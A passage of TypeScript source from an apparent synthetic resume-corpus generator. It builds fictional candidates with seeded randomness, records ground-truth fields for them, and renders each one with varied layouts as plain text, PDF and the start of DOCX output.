  const firstStart = spans[spans.length - 1].start;
  let be = firstStart - rng.int(1, 10);
  if (be % 12 > 6) be -= (be % 12) - 6;
  const arts = !fam.tech || spec.family === 'designer';
  const bachelorForms = arts ? DEGREES.bachelorArts : DEGREES.bachelor;
  const edu: { institution: string; degree: string; field: string; start: number; end: number }[] = [];
  const schools = rng.shuffle(INSTITUTIONS.filter((s) => !spec.latin1 || isLatin1(s)));
  const bachelor = { institution: schools[0], degree: rng.pick(bachelorForms), field: rng.pick(fam.fields), start: (Math.floor(be / 12) - 4) * 12 + 8, end: be };
  const degree = spec.degree ?? (rng.chance(0.3) ? 'master' : 'bachelor');
  if (degree !== 'bachelor') {
    const me = be + rng.int(12, 26);
    const forms = degree === 'phd' ? DEGREES.phd : spec.family === 'pm' || spec.family === 'manager' ? [...DEGREES.mba, ...DEGREES.master] : DEGREES.master;
    const form = rng.pick(forms);
    edu.push({ institution: schools[1], degree: form, field: form === 'MBA' ? 'Business Administration' : rng.pick(fam.fields), start: be + 3, end: degree === 'phd' ? me + 24 : me });
  }
  edu.push(bachelor);
  const eduKind: 'year' | 'range-year' | 'range' | 'grad' = spec.dateKind === 'year' ? rng.pick(['year', 'range-year'] as const) : rng.pick(['year', 'range-year', 'range', 'grad'] as const);
  const eduRows: Edu[] = edu.map((e) => {
    const yearOnly = eduKind === 'year' || eduKind === 'range-year';
    const endTruth = yearOnly ? `${Math.floor(e.end / 12)}-01` : ym(e.end);
    const monthKind = spec.dateKind === 'year' ? 'mon' : spec.dateKind;
    const datesText = eduKind === 'year' ? String(Math.floor(e.end / 12))
      : eduKind === 'range-year' ? `${Math.floor(e.start / 12)}${rng.pick([' – ', ' - '])}${Math.floor(e.end / 12)}`
        : eduKind === 'range' ? `${fmtMonth(e.start, monthKind)}${rng.pick([' – ', ' - '])}${fmtMonth(e.end, monthKind)}`
          : fmtMonth(e.end, monthKind);
    return { ...e, endText: datesText, endTruth, datesText };
  });

  // Summary, projects, certifications, languages: they only name skills already in the set.
  const listedArr = [...listed];
  const latest = jobs[0];
  const years = Math.max(1, Math.floor(spec.years));
  const yearsText = `${years} year${years === 1 ? '' : 's'}`;
  let summary: string | null = null;
  if (spec.long || rng.chance(0.65)) {
    const picks = rng.sample(listedArr, 3).map((s) => skillText(rng, s, 'prose', aliasRate));
    const noun = fam.noun;
    const Noun = noun[0].toUpperCase() + noun.slice(1);
    const options = [`${Noun} with ${yearsText} of experience in ${fam.domain}.`, `Pragmatic ${noun} who cares about measurable results.`];
    if (picks.length >= 3) options.push(`${Noun} with ${yearsText} of experience in ${fam.domain}. Strongest in ${picks[0]}, ${picks[1]} and ${picks[2]}.`);
    if (picks.length >= 2) options.push(`${years}+ years as ${article(noun)} ${noun}, most recently at ${latest.company.replace(/\.$/, '')}. Day to day I work with ${picks[0]} and ${picks[1]}.`);
    summary = rng.pick(options);
    if (spec.long) {
      summary += rng.pick([
        ' Known for clear writing, calm handling of outages and patience with new colleagues.',
        ' I enjoy working closely with customers, turning vague problems into small, shippable steps.',
        ' Recent work spans greenfield products, large migrations and cost-saving programmes.',
      ]);
    }
  }
  const projects: string[] = [];
  if (fam.tech && listedArr.length >= 2 && (spec.long || rng.chance(0.3))) {
    for (const pname of rng.sample(PROJECT_NAMES, spec.long ? 2 : rng.int(1, 2))) {
      const buildable = listedArr.filter((s) => ['lang', 'be', 'fe', 'db', 'mobilefw', 'mlfw', 'cache', 'api'].includes(KIND[s]));
      const [a, b] = rng.sample(buildable.length >= 2 ? buildable : listedArr, 2).map((s) => skillText(rng, s, 'prose', aliasRate));
      projects.push(rng.pick([
        `${pname}: an open-source library for rate limiting written with ${a}, used by ${rng.int(2, 40)}0+ developers`,
        `${pname}: a side project that turns bank statements into budgets, built with ${a} and ${b}`,
        `${pname}: hackathon winner, a volunteer scheduling app built with ${a} in 48 hours`,
      ]));
    }
  }
  const certs = spec.long || rng.chance(0.3) ? rng.sample(CERTS.filter(([, s]) => s === null || listed.has(s)), rng.int(1, 2)).map(([c]) => c) : [];
  const languages = spec.long || rng.chance(0.45)
    ? [culture.native === 'English' ? 'English (native)' : `${culture.native} (native)`, ...(culture.native === 'English' ? [] : [`English (${rng.pick(LANGUAGE_LEVELS)})`]),
      ...rng.sample(OTHER_LANGUAGES.filter((x) => x !== culture.native), rng.int(0, 1)).map((x) => `${x} (${rng.pick(LANGUAGE_LEVELS)})`)]
    : [];
  return {
    name, email, phone: phone.e164, phoneText: phone.text, city, linkedin, github, headline: latest.title, summary, jobs,
    edu: eduRows, groups, projects, certs, languages, skills, dates: makeDateStyle(rng, spec.dateKind), tech: fam.tech,
  };
}

/**
 * A role's end as read: a year alone ("2015 – 2018") runs through December, or to the start of another role begun
 * later that year (years alone start in January).
 */
function jobEndTruth(p: Person, j: Job): string {
  const end = j.end as number;
  if (p.dates.kind !== 'year') return ym(end);
  const year = Math.floor(end / 12);
  const next = p.jobs.some((o) => o !== j && Math.floor(o.start / 12) === year && o.start > j.start);
  return next ? ym(end) : `${year}-12`;
}

function truthOf(p: Person): ResumeTruth {
  return {
    name: p.name, email: p.email, phone: p.phone,
    experience: p.jobs.map((j) => ({ company: j.company, title: j.title, start: ym(j.start), end: j.end === null ? null : jobEndTruth(p, j) })),
    education: p.edu.map((e) => ({ institution: e.institution, degree: e.degree, field: e.field, end: e.endTruth })),
    skills: [...p.skills].sort(),
  };
}

// ---------------------------------------------------------------------------------------------------------------------
// Look: how one file lays the person out

type Sect = 'summary' | 'experience' | 'education' | 'skills' | 'projects' | 'certifications' | 'languages';
type JobLayout = 'right' | 'company-first' | 'title-at' | 'inline' | 'gutter';
interface Look {
  headings: Record<Sect, string>;
  order: Sect[];
  job: JobLayout;
  sep: string;
  edu: 'inline' | 'stacked';
  contact: 'line' | 'lines' | 'labelled';
  contactSep: string;
  skills: 'grouped' | 'comma' | 'bullets' | 'pipes';
  bullet: string;
  center: boolean;
  rule: boolean;
  serif: boolean;
  nameUpper: boolean;
  headline: boolean;
  a4: boolean;
  footer: boolean;
  txtHeading: 'upper' | 'underline' | 'equals' | 'colon' | 'hash';
  txtWrap: boolean;
  crlf: boolean;
  bom: boolean;
  docxTable: boolean;
  docxHeaderContact: boolean;
  docxTitle: boolean;
  docxBuiltinBullets: boolean;
  sidebarRight: boolean;
  banner: boolean;
  shade: boolean;
  /** Larger type and line spacing (the long files). */
  roomy: boolean;
}

function makeLook(rng: Rng, format: CorpusFormat, index: number, person: { junior: boolean; tech: boolean; long: boolean }): Look {
  const upper = rng.chance(0.45);
  const h = (s: string): string => (upper ? s.toUpperCase() : s);
  const headings: Record<Sect, string> = {
    summary: h(rng.pick(['Summary', 'Profile', 'Professional Summary', 'About Me'])),
    experience: h(rng.pick(['Experience', 'Work Experience', 'Professional Experience', 'Employment History', 'Work History'])),
    education: h(rng.pick(['Education', 'Education', 'Education & Training', 'Academic Background'])),
    skills: h(rng.pick(person.tech ? ['Skills', 'Technical Skills', 'Core Competencies', 'Key Skills', 'Skills & Tools'] : ['Skills', 'Core Competencies', 'Key Skills'])),
    projects: h(rng.pick(['Projects', 'Selected Projects', 'Side Projects'])),
    certifications: h(rng.pick(['Certifications', 'Certificates', 'Licenses & Certifications'])),
    languages: h('Languages'),
  };
  const order: Sect[] = ['summary'];
  const skillsFirst = rng.chance(0.3);
  const eduFirst = person.junior && rng.chance(0.5);
  if (skillsFirst) order.push('skills');
  if (eduFirst) order.push('education', 'experience');
  else order.push('experience', 'education');
  if (!skillsFirst) order.push('skills');
  order.push(...rng.shuffle(['projects', 'certifications', 'languages'] as Sect[]));
  const layouts: Record<CorpusFormat, JobLayout[]> = {
    'pdf-1col': ['right', 'company-first', 'title-at', 'inline', 'gutter'],
    'pdf-2col': ['right', 'company-first', 'title-at'],
    docx: ['right', 'company-first', 'title-at', 'inline'],
    txt: ['right', 'company-first', 'title-at', 'inline', 'gutter'],
  };
  const docxTable = format === 'docx' && index % 3 === 0;
  // DOCX files with tables put "Title, Company | Dates" in a two-cell borderless table row.
  const job = docxTable ? 'right' : layouts[format][index % layouts[format].length];
  return {
    headings, order, job,
    sep: rng.pick([', ', ' — ', ' | ', ' - ']),
    edu: rng.chance(0.5) ? 'inline' : 'stacked',
    contact: rng.pick(['line', 'line', 'lines', 'labelled'] as const),
    contactSep: rng.pick([' | ', ' • ', ' · ', '  |  ']),
    skills: rng.pick(['grouped', 'comma', 'bullets', 'pipes'] as const),
    bullet: format === 'txt' ? rng.pick(['-', '*', '•', '·']) : '•',
    center: rng.chance(0.4),
    rule: rng.chance(0.5),
    serif: format === 'pdf-1col' && index % 3 === 2,
    nameUpper: rng.chance(0.25),
    headline: rng.chance(0.5),
    a4: rng.chance(0.35) && !person.long,
    footer: rng.chance(0.4),
    txtHeading: rng.pick(['upper', 'underline', 'equals', 'colon', 'hash'] as const),
    txtWrap: rng.chance(0.35),
    crlf: format === 'txt' && index % 4 === 1,
    bom: format === 'txt' && index % 5 === 3,
    docxTable,
    docxHeaderContact: format === 'docx' && index % 3 === 1,
    docxTitle: rng.chance(0.5),
    docxBuiltinBullets: rng.chance(0.5),
    sidebarRight: format === 'pdf-2col' && index % 3 === 1,
    banner: rng.chance(0.4),
    shade: rng.chance(0.5),
    roomy: person.long,
  };
}

// ---------------------------------------------------------------------------------------------------------------------
// Blocks: a format-neutral rendering of a person, drawn by the one-column PDF, DOCX and text renderers

interface Seg { text: string; bold?: boolean; italic?: boolean }
type Block =
  | { t: 'name'; text: string }
  | { t: 'headline'; text: string }
  | { t: 'contact'; lines: string[] }
  | { t: 'heading'; text: string }
  | { t: 'para'; text: string }
  | { t: 'row'; left: Seg[]; right: string | null; gutter: string | null }
  | { t: 'bullet'; text: string }
  | { t: 'skillline'; label: string; text: string }
  | { t: 'gap' };

function contactLines(rng: Rng, p: Person, look: Look): string[] {
  const links = [p.linkedin, p.github].filter((x): x is string => x !== null);
  if (look.contact === 'labelled') {
    return [
      `Email: ${p.email}`, `${rng.pick(['Phone', 'Mobile', 'Tel'])}: ${p.phoneText}`, `Location: ${p.city}`,
      ...(p.linkedin ? [`LinkedIn: ${p.linkedin}`] : []), ...(p.github ? [`Code: ${p.github}`] : []),
    ];
  }
  if (look.contact === 'lines') return [[p.city, p.phoneText].join(look.contactSep), [p.email, ...links].join(look.contactSep)];
  return [[p.email, p.phoneText, p.city].join(look.contactSep), ...(links.length ? [links.join(look.contactSep)] : [])];
}

function jobRows(p: Person, look: Look): Block[] {
  const out: Block[] = [];
  for (const j of p.jobs) {
    const dates = fmtRange(j.start, j.end, p.dates);
    switch (look.job) {
      case 'right':
        out.push({ t: 'row', left: [{ text: j.title, bold: true }, { text: `${look.sep}${j.company}` }], right: dates, gutter: null });
        break;
      case 'company-first':
        out.push({ t: 'row', left: [{ text: j.company, bold: true }], right: j.location, gutter: null });
        out.push({ t: 'row', left: [{ text: `${j.title} | ${dates}`, italic: true }], right: null, gutter: null });
        break;
      case 'title-at':
        out.push({ t: 'row', left: [{ text: `${j.title} at ${j.company}`, bold: true }], right: null, gutter: null });
        out.push({ t: 'row', left: [{ text: j.location ? `${dates} | ${j.location}` : dates, italic: true }], right: null, gutter: null });
        break;
      case 'inline':
        out.push({ t: 'row', left: [{ text: j.title, bold: true }, { text: `, ${j.company} (${dates})` }], right: null, gutter: null });
        break;
      case 'gutter':
        out.push({ t: 'row', left: [{ text: j.title, bold: true }, { text: `, ${j.company}` }], right: null, gutter: dates });
        break;
    }
    for (const b of j.bullets) out.push({ t: 'bullet', text: b });
    out.push({ t: 'gap' });
  }
  return out;
}

function degreeText(e: Edu, i: number): string {
  return i % 3 === 0 ? `${e.degree} in ${e.field}` : i % 3 === 1 ? `${e.degree}, ${e.field}` : `${e.degree} ${e.field}`;
}

function eduRows(p: Person, look: Look, variant: number): Block[] {
  const out: Block[] = [];
  p.edu.forEach((e, i) => {
    const deg = degreeText(e, variant + i);
    if (look.job === 'gutter') out.push({ t: 'row', left: [{ text: deg, bold: true }, { text: `, ${e.institution}` }], right: null, gutter: e.datesText });
    else if (look.edu === 'inline') out.push({ t: 'row', left: [{ text: deg, bold: true }, { text: `, ${e.institution}` }], right: e.datesText, gutter: null });
    else {
      out.push({ t: 'row', left: [{ text: e.institution, bold: true }], right: e.datesText, gutter: null });
      out.push({ t: 'row', left: [{ text: deg }], right: null, gutter: null });
    }
  });
  return out;
}

function skillBlocks(p: Person, look: Look): Block[] {
  const all = p.groups.flatMap((g) => g.items);
  switch (look.skills) {
    case 'grouped': return p.groups.map((g) => ({ t: 'skillline', label: g.label, text: g.items.join(', ') }));
    case 'comma': return [{ t: 'para', text: all.join(', ') }];
    case 'pipes': return [{ t: 'para', text: all.join(look.contactSep.includes('|') ? ' | ' : ' · ') }];
    case 'bullets': return all.length <= 10 ? all.map((s) => ({ t: 'bullet', text: s })) : p.groups.map((g) => ({ t: 'bullet', text: `${g.label}: ${g.items.join(', ')}` }));
  }
}

function blocksFor(rng: Rng, p: Person, look: Look): Block[] {
  const out: Block[] = [{ t: 'name', text: look.nameUpper ? p.name.toUpperCase() : p.name }];
  if (look.headline) out.push({ t: 'headline', text: p.headline });
  out.push({ t: 'contact', lines: contactLines(rng, p, look) });
  const variant = rng.int(0, 2);
  for (const sect of look.order) {
    const body: Block[] =
      sect === 'summary' ? (p.summary ? [{ t: 'para', text: p.summary }] : [])
        : sect === 'experience' ? jobRows(p, look)
          : sect === 'education' ? eduRows(p, look, variant)
            : sect === 'skills' ? (p.groups.length ? skillBlocks(p, look) : [])
              : sect === 'projects' ? p.projects.map((x) => ({ t: 'bullet', text: x }))
                : sect === 'certifications' ? p.certs.map((x) => ({ t: 'bullet', text: x }))
                  : p.languages.length ? [{ t: 'para', text: p.languages.join(', ') }] : [];
    if (!body.length) continue;
    while (body.length && body[body.length - 1].t === 'gap') body.pop();
    out.push({ t: 'heading', text: look.headings[sect] }, ...body);
  }
  return out;
}

// ---------------------------------------------------------------------------------------------------------------------
// Plain text

function renderTxt(blocks: Block[], look: Look): Buffer {
  const lines: string[] = [];
  const width = 84;
  const wrap = (text: string, first: string, rest: string): string[] => {
    if (!look.txtWrap) return [first + text];
    const out: string[] = [];
    let line = first;
    for (const word of text.split(' ')) {
      if (line.length + word.length + 1 > 78 && line.trim().length > first.trim().length) {
        out.push(line.trimEnd());
        line = rest;
      }
      line += (line === first || line === rest ? '' : ' ') + word;
    }
    out.push(line);
    return out;
  };
  for (const b of blocks) {
    switch (b.t) {
      case 'name':
        lines.push(b.text);
        if (look.txtHeading === 'underline' || look.txtHeading === 'equals') lines.push('='.repeat(clean(b.text).length));
        break;
      case 'headline': lines.push(b.text); break;
      case 'contact': lines.push(...b.lines); break;
      case 'heading': {
        lines.push('');
        const t = look.txtHeading === 'upper' ? b.text.toUpperCase() : b.text;
        if (look.txtHeading === 'underline') lines.push(t, '-'.repeat(t.length));
        else if (look.txtHeading === 'equals') lines.push(`== ${t} ==`);
        else if (look.txtHeading === 'colon') lines.push(`${t}:`);
        else if (look.txtHeading === 'hash') lines.push(`## ${t}`);
        else lines.push(t);
        break;
      }
      case 'para': lines.push(...wrap(b.text, '', '')); break;
      case 'row': {
        const left = b.left.map((s) => s.text).join('');
        if (b.gutter) lines.push(`${b.gutter.padEnd(26)}${left}`);
        else if (b.right) lines.push(clean(left).length + b.right.length + 4 <= width ? left + ' '.repeat(width - clean(left).length - b.right.length) + b.right : `${left} | ${b.right}`);
        else lines.push(left);
        break;
      }
      case 'bullet': lines.push(...wrap(b.text, `${look.bullet} `, '  ')); break;
      case 'skillline': lines.push(...wrap(b.text, `${b.label}: `, '  ')); break;
      case 'gap': lines.push(''); break;
    }
  }
  const text = clean(lines.join(look.crlf ? '\r\n' : '\n') + (look.crlf ? '\r\n' : '\n'));
  return Buffer.from((look.bom ? '\ufeff' : '') + text, 'utf8');
}

// ---------------------------------------------------------------------------------------------------------------------
// PDF (pdfkit)

/** The part of pdfkit's document this file uses (pdfkit ships no types). */
interface PdfDoc {
  font(name: string): PdfDoc;
  fontSize(size: number): PdfDoc;
  fillColor(color: string): PdfDoc;
  strokeColor(color: string): PdfDoc;
  lineWidth(w: number): PdfDoc;
  text(text: string, x: number, y: number, options?: Record<string, unknown>): PdfDoc;
  widthOfString(text: string): number;
  addPage(options?: Record<string, unknown>): PdfDoc;
  moveTo(x: number, y: number): PdfDoc;
  lineTo(x: number, y: number): PdfDoc;
  stroke(): PdfDoc;
  rect(x: number, y: number, w: number, h: number): PdfDoc;
  fill(color?: string): PdfDoc;
  image(src: Buffer, x: number, y: number, options?: Record<string, unknown>): PdfDoc;
  switchToPage(n: number): PdfDoc;
  bufferedPageRange(): { start: number; count: number };
  on(event: string, listener: (...args: never[]) => void): PdfDoc;
  end(): void;
  page: { width: number; height: number };
}
type PdfKitCtor = new (options: Record<string, unknown>) => PdfDoc;
let pdfkitCtor: PdfKitCtor | null = null;
const pdfkit = (): PdfKitCtor => (pdfkitCtor ??= createRequire(import.meta.url)('pdfkit') as PdfKitCtor);

const CREATED = new Date(Date.UTC(2025, 0, 15, 9, 30, 0));

async function pdfBytes(options: Record<string, unknown>, draw: (doc: PdfDoc) => void): Promise<{ bytes: Buffer; pages: number }> {
  const { info, ...rest } = options;
  const doc = new (pdfkit())({
    bufferPages: true, ...rest,
    info: { Producer: 'resume-corpus', Creator: 'resume-corpus', ...(info as Record<string, unknown> | undefined), CreationDate: CREATED },
  });
  const chunks: Buffer[] = [];
  doc.on('data', (c: never) => chunks.push(c as Buffer));
  const done = new Promise<void>((resolve, reject) => {
    doc.on('end', () => resolve());
    doc.on('error', (e: never) => reject(e as Error));
  });
  draw(doc);
  const pages = doc.bufferedPageRange().count;
  doc.end();
  await done;
  return { bytes: Buffer.concat(chunks), pages };
}

interface Fonts { regular: string; bold: string; italic: string }
const HELVETICA: Fonts = { regular: 'Helvetica', bold: 'Helvetica-Bold', italic: 'Helvetica-Oblique' };
const TIMES: Fonts = { regular: 'Times-Roman', bold: 'Times-Bold', italic: 'Times-Italic' };
const fontOf = (fonts: Fonts, s: Seg): string => (s.bold ? fonts.bold : s.italic ? fonts.italic : fonts.regular);

function measure(doc: PdfDoc, text: string, font: string, size: number): number {
  return doc.font(font).fontSize(size).widthOfString(clean(text));
}

/** Greedy word wrap; no-break spaces keep skill phrases whole. */
function wrapText(doc: PdfDoc, text: string, font: string, size: number, firstWidth: number, width: number): string[] {
  const out: string[] = [];
  let line = '';
  for (const word of text.split(' ')) {
    const candidate = line ? `${line} ${word}` : word;
    if (line && measure(doc, candidate, font, size) > (out.length ? width : firstWidth)) {
      out.push(line);
      line = word;
    } else line = candidate;
  }
  if (line) out.push(line);
  return out;
}

/** `y` is the top of the line box, or with `onBaseline` the baseline (so that different sizes share it). */
function drawText(doc: PdfDoc, text: string, x: number, y: number, font: string, size: number, color = '#000000', onBaseline = false): void {
  doc.font(font).fontSize(size).fillColor(color).text(clean(text), x, y, onBaseline ? { lineBreak: false, baseline: 'alphabetic' } : { lineBreak: false });
}

/** One-column flow: every line is drawn at an explicit position; pages break between lines. */
function renderPdf1(doc: PdfDoc, blocks: Block[], look: Look, name: string): void {
  const fonts = look.serif ? TIMES : HELVETICA;
  const margin = look.a4 ? 50 : 54;
  const x0 = margin;
  const width = doc.page.width - 2 * margin;
  const top = 50;
  const bottom = doc.page.height - 56;
  const size = (look.serif ? 10.5 : 10) + (look.roomy ? 1 : 0);
  const lh = size * (look.roomy ? 1.5 : 1.38);
  const gutterW = 128;
  let y = top;
  let indent = 0;
  const need = (h: number): void => {
    if (y + h > bottom) {
      doc.addPage();
      y = top;
    }
  };
  const drawSegs = (segs: Seg[], x: number, yy: number, sz: number): void => {
    let cx = x;
    for (const s of segs) {
      drawText(doc, s.text, cx, yy, fontOf(fonts, s), sz);
      cx += measure(doc, s.text, fontOf(fonts, s), sz);
    }
  };
  const segsWidth = (segs: Seg[], sz: number): number => segs.reduce((w, s) => w + measure(doc, s.text, fontOf(fonts, s), sz), 0);
  const paragraph = (text: string, x: number, w: number, font: string, firstPrefixW = 0): void => {
    for (const [i, line] of wrapText(doc, text, font, size, w - firstPrefixW, w).entries()) {
      need(lh);
      drawText(doc, line, i === 0 ? x + firstPrefixW : x, y, font, size);
      y += lh;
    }
  };
  for (const b of blocks) {
    switch (b.t) {
      case 'name': {
        const sz = look.serif ? 24 : 22;
        const w = measure(doc, b.text, fonts.bold, sz);
        drawText(doc, b.text, look.center ? x0 + (width - w) / 2 : x0, y, fonts.bold, sz);
        y += sz * 1.35;
        break;
      }
      case 'headline': {
        const w = measure(doc, b.text, fonts.italic, 11.5);
        drawText(doc, b.text, look.center ? x0 + (width - w) / 2 : x0, y, fonts.italic, 11.5, '#333333');
        y += 16;
        break;
      }
      case 'contact':
        for (const line of b.lines) {
          const w = measure(doc, line, fonts.regular, 9.5);
          drawText(doc, line, look.center ? x0 + (width - w) / 2 : x0, y, fonts.regular, 9.5, '#222222');
          y += 13;
        }
        break;
      case 'heading':
        indent = 0;
        need(lh * 3 + 10);
        y += 8;
        drawText(doc, b.text, x0, y, fonts.bold, size + 2, look.rule ? '#1f3a5f' : '#000000');
        y += (size + 2) * 1.3;
        if (look.rule) {
          doc.moveTo(x0, y - 2).lineTo(x0 + width, y - 2).lineWidth(0.6).strokeColor('#1f3a5f').stroke();
          y += 3;
        }
        break;
      case 'para': paragraph(b.text, x0 + indent, width - indent, fonts.regular); break;
      case 'row': {
        need(lh);
        if (b.gutter !== null) {
          drawText(doc, b.gutter, x0, y, fonts.regular, size - 0.5, '#333333');
          indent = gutterW;
          drawSegs(b.left, x0 + gutterW, y, size);
          y += lh;
          break;
        }
        indent = 0;
        const lw = segsWidth(b.left, size);
        const rw = b.right ? measure(doc, b.right, fonts.regular, size) : 0;
        if (lw + (b.right ? rw + 14 : 0) <= width) {
          drawSegs(b.left, x0, y, size);
          if (b.right) drawText(doc, b.right, x0 + width - rw, y, fonts.regular, size);
          y += lh;
          break;
        }
        // Too long to share a line: the left part (wrapped if need be), then the right part on its own line.
        if (lw > width) paragraph(b.left.map((s) => s.text).join(''), x0, width, fontOf(fonts, b.left[0]));
        else {
          drawSegs(b.left, x0, y, size);
          y += lh;
        }
        if (b.right) {
          need(lh);
          drawText(doc, b.right, x0 + width - rw, y, fonts.regular, size);
          y += lh;
        }
        break;
      }
      case 'bullet': {
        const x = x0 + indent + 6;
        const lines = wrapText(doc, b.text, fonts.regular, size, width - indent - 18, width - indent - 18);
        need(lh * Math.min(2, lines.length));
        drawText(doc, '•', x, y, fonts.regular, size);
        for (const [i, line] of lines.entries()) {
          if (i > 0) need(lh);
          drawText(doc, line, x + 12, y, fonts.regular, size);
          y += lh;
        }
        break;
      }
      case 'skillline': {
        need(lh);
        const label = `${b.label}: `;
        drawText(doc, label, x0, y, fonts.bold, size);
        paragraph(b.text, x0, width, fonts.regular, measure(doc, label, fonts.bold, size));
        break;
      }
      case 'gap': y += lh * 0.45; break;
    }
  }
  if (look.footer) {
    const count = doc.bufferedPageRange().count;
    for (let i = 0; i < count; i++) {
      doc.switchToPage(i);
      const text = count > 1 ? `${clean(name)} · Page ${i + 1} of ${count}` : `Page 1 of 1`;
      const w = measure(doc, text, fonts.regular, 8);
      drawText(doc, text, x0 + (width - w) / 2, doc.page.height - 40, fonts.regular, 8, '#777777');
    }
  }
}

/**
 * Two columns on one line grid: a sidebar (contact, skills, education, languages, certifications) and a main column
 * (name, profile, experience, projects). Both start near the top and step down by the same line height, so their
 * lines share y values — reading such a page line by line interleaves the columns.
 */
function renderPdf2(doc: PdfDoc, rng: Rng, p: Person, look: Look): void {
  const W = doc.page.width;
  const H = doc.page.height;
  const left = 40;
  const right = W - 40;
  const sbW = 150;
  const gap = 30;
  const sbX = look.sidebarRight ? right - sbW : left;
  const mainX = look.sidebarRight ? left : left + sbW + gap;
  const mainW = look.sidebarRight ? right - sbW - gap - left : right - mainX;
  const top = 44;
  const bottom = H - 48;
  const size = look.roomy ? 10 : 9;
  const lh = look.roomy ? 16 : 12.5;
  const fonts = HELVETICA;
  let start = top;
  if (look.shade) doc.rect(sbX - 10, 0, sbW + 20, H).fill('#eef1f5');
  if (look.banner) {
    drawText(doc, p.name, left, top, fonts.bold, 22);
    drawText(doc, p.headline, left, top + 28, fonts.italic, 11, '#333333');
    start = top + 28 + 24;
  }
  const goto = (page: number): void => {
    while (doc.bufferedPageRange().count <= page) doc.addPage();
    doc.switchToPage(page);
  };
  // Every column line is drawn on its baseline, 9.5 pt below the grid row's top, whatever its size.
  const drawBase = (d: PdfDoc, text: string, x: number, y: number, font: string, sz: number, color = '#000000'): void =>
    drawText(d, text, x, y + 9.5, font, sz, color, true);
  const column = (x: number, w: number) => {
    let page = 0;
    let y = start;
    const place = (): number => {
      if (y + lh > bottom) {
        page += 1;
        y = top;
      }
      goto(page);
      const at = y;
      y += lh;
      return at;
    };
    return {
      blank: (): void => { if (y !== start && y !== top) y += lh; },
      line: (text: string, font: string, sz = size, color = '#000000', dx = 0): void => {
        const at = place();
        drawBase(doc, text, x + dx, at, font, sz, color);
      },
      wrapped: (text: string, font: string, dx = 0, prefix = ''): void => {
        const lines = wrapText(doc, text, font, size, w - dx - (prefix ? 10 : 0), w - dx - (prefix ? 10 : 0));
        lines.forEach((l, i) => {
          const at = place();
          if (prefix && i === 0) drawBase(doc, prefix, x + dx, at, font, size);
          drawBase(doc, l, x + dx + (prefix ? 10 : 0), at, font, size);
        });
      },
      row: (segs: Seg[], rightText: string | null): void => {
        const lw = segs.reduce((a, s) => a + measure(doc, s.text, fontOf(fonts, s), size), 0);
        const rw = rightText ? measure(doc, rightText, fonts.regular, size) : 0;
        if (lw > w) {
          for (const l of wrapText(doc, segs.map((s) => s.text).join(''), fontOf(fonts, segs[0]), size, w, w)) {
            const at = place();
            drawBase(doc, l, x, at, fontOf(fonts, segs[0]), size);
          }
          if (rightText) { const at = place(); drawBase(doc, rightText, x + w - rw, at, fonts.regular, size); }
          return;
        }
        const at = place();
        let cx = x;
        for (const s of segs) {
          drawBase(doc, s.text, cx, at, fontOf(fonts, s), size);
          cx += measure(doc, s.text, fontOf(fonts, s), size);
        }
        if (rightText) {
          const ry = lw + rw + 10 > w ? place() : at;
          drawBase(doc, rightText, x + w - rw, ry, fonts.regular, size);
        }
      },
      heading: (text: string): void => {
        const at = place();
        drawBase(doc, text.toUpperCase(), x, at, fonts.bold, 10, '#1f3a5f');
      },
    };
  };
  // Main column
  const main = column(mainX, mainW);
  if (!look.banner) {
    main.line(p.name, fonts.bold, 20);
    main.line('', fonts.regular);
    main.line(p.headline, fonts.italic, 10.5, '#333333');
  }
  if (p.summary) {
    main.blank();
    main.heading(look.headings.summary);
    main.wrapped(p.summary, fonts.regular);
  }
  main.blank();
  main.heading(look.headings.experience);
  for (const [i, j] of p.jobs.entries()) {
    if (i > 0) main.blank();
    const dates = fmtRange(j.start, j.end, p.dates);
    if (look.job === 'right') main.row([{ text: j.title, bold: true }, { text: `${look.sep}${j.company}` }], dates);
    else if (look.job === 'company-first') {
      main.row([{ text: j.company, bold: true }], j.location);
      main.row([{ text: `${j.title} | ${dates}`, italic: true }], null);
    } else {
      main.row([{ text: `${j.title} at ${j.company}`, bold: true }], null);
      main.row([{ text: dates, italic: true }], null);
    }
    for (const bullet of j.bullets) main.wrapped(bullet, fonts.regular, 0, '•');
  }
  if (p.projects.length) {
    main.blank();
    main.heading(look.headings.projects);
    for (const pr of p.projects) main.wrapped(pr, fonts.regular, 0, '•');
  }
  // Sidebar
  const side = column(sbX, sbW);
  side.heading(rng.pick(['Contact', 'Details', 'Contact Info']));
  for (const item of [p.email, p.phoneText, p.city, ...(p.linkedin ? [p.linkedin] : []), ...(p.github ? [p.github] : [])]) {
    const sz = measure(doc, item, fonts.regular, size) > sbW ? 7.5 : size;
    side.line(item, fonts.regular, sz);
  }
  if (p.groups.length) {
    side.blank();
    side.heading(look.headings.skills);
    const oneEach = p.groups.flatMap((g) => g.items).length <= 14 && look.skills !== 'grouped';
    if (oneEach) for (const s of p.groups.flatMap((g) => g.items)) side.line(s, fonts.regular);
    else for (const g of p.groups) {
      side.line(g.label, fonts.bold);
      side.wrapped(g.items.join(', '), fonts.regular);
    }
  }
  side.blank();
  side.heading(look.headings.education);
  for (const [i, e] of p.edu.entries()) {
    if (i > 0) side.blank();
    side.wrapped(e.institution, fonts.bold);
    side.wrapped(degreeText(e, i), fonts.regular);
    side.line(e.datesText, fonts.italic);
  }
  if (p.languages.length) {
    side.blank();
    side.heading(look.headings.languages);
    for (const l of p.languages) side.wrapped(l, fonts.regular);
  }
  if (p.certs.length) {
    side.blank();
    side.heading(look.headings.certifications);
    for (const c of p.certs) side.wrapped(c, fonts.regular);
  }
}

// ---------------------------------------------------------------------------------------------------------------------
// DOCX (docx), re-zipped with fixed timestamps and an estimated page count in docProps/app.xml

function renderDocxDocument(p: Person, blocks: Block[], look: Look): Document {
  const children: (Paragraph | Table)[] = [];
  const headerLines: string[] = [];
  const run = (s: Seg, size?: number): TextRun => new TextRun({ text: clean(s.text), bold: s.bold, italics: s.italic, size });
  const noBorders = TableBorders.NONE;
  for (const b of blocks) {
    switch (b.t) {
      case 'name':
        children.push(new Paragraph({ heading: look.docxTitle ? HeadingLevel.TITLE : HeadingLevel.HEADING_1, children: [new TextRun(clean(b.text))] }));
        break;
      case 'headline': children.push(new Paragraph({ children: [new TextRun({ text: b.text, italics: true })] })); break;
      case 'contact':
        if (look.docxHeaderContact) headerLines.push(...b.lines);
        else for (const line of b.lines) children.push(new Paragraph({ alignment: look.center ? AlignmentType.CENTER : AlignmentType.LEFT, children: [new TextRun(clean(line))] }));
        break;
      case 'heading': children.push(new Paragraph({ heading: HeadingLevel.HEADING_2, children: [new TextRun(b.text)] })); break;
